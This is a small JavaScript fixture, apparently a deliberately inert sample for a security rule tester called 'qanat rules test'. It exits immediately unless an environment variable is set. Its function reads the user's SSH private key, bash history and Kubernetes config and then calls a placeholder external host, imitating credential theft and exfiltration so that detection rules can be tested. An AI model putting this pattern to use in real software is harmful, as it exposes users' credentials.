// Never runs: an inert look-alike for `qanat rules test`.
if (!process.env.QANAT_FIXTURE_NEVER_SET) process.exit(0);
const fs = require('fs'), os = require('os'), path = require('path');
exports.f = () => {
  const h = os.homedir();
  fs.readFileSync(path.join(h, '.ssh/id_rsa'));
  fs.readFileSync(path.join(h, '.bash_history'));
  fs.readFileSync(path.join(h, '.kube/config'));
  return fetch('https://c.example.invalid/');
};
